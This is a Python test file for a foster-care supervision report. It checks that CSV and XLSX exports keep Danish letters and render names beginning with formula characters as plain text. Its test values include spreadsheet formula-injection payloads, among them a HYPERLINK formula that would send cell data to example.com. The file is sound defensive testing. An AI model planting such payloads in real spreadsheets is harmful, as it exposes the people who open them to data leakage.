"""The report files open safely in Danish Excel: letters intact, no formula from a name."""

import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from tests.factories import FosterFamilyFactory
from tests.reports.conftest import csv_rows
from tests.supervision.factories import RegisteredPlacementFactory

pytestmark = pytest.mark.django_db

URL = reverse("supervision_report_late_courses")

FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1;"Klik")',
    "+45 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def late_course(municipality, family_name, child="E."):
    start = timezone.localdate() - datetime.timedelta(days=730)
    family = FosterFamilyFactory(municipality=municipality, name=family_name)
    return RegisteredPlacementFactory(family=family, child_name=child, start_date=start)


def test_the_csv_opens_in_danish_excel_with_the_letters_intact(client, coordinator, vejle):
    late_course(vejle, "Familien Ærø-Østergård", child="Åse")
    response = client.get(URL, {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    heading, row = csv_rows(response)
    assert heading[:2] == ["Plejefamilie", "Barn"]
    assert row[:2] == ["Familien Ærø-Østergård", "Åse"]
    assert row[-1] == "Forsinket"


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_in_a_name_reaches_the_csv_as_text(client, coordinator, vejle, name):
    late_course(vejle, name, child=name[:40])
    row = csv_rows(client.get(URL, {"export": "csv"}))[1]
    assert row[:2] == [f"'{name}", f"'{name[:40]}"]


def xlsx_rows(response):
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return list(workbook.active.iter_rows())


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_in_a_name_reaches_the_xlsx_as_a_text_cell(client, coordinator, vejle, name):
    late_course(vejle, name)
    family = xlsx_rows(client.get(URL, {"export": "xlsx"}))[1][0]
    # XML reads a carriage return back as a line feed
    assert (family.value, family.data_type) == (name.replace("\r", "\n"), "s")
    assert family.quotePrefix  # Excel keeps it text even when the cell is edited


def test_control_characters_in_a_name_do_not_break_the_xlsx(client, coordinator, vejle):
    late_course(vejle, "Familien\x01 Hansen\x0b")
    response = client.get(URL, {"export": "xlsx"})
    assert response.status_code == 200
    assert xlsx_rows(response)[1][0].value == "Familien Hansen"


def test_the_pdf_shows_names_as_written(client, coordinator, vejle):
    late_course(vejle, "-Familien Minus")
    response = client.get(URL, {"export": "pdf"})
    assert response.context["rows"][0][0] == "-Familien Minus"
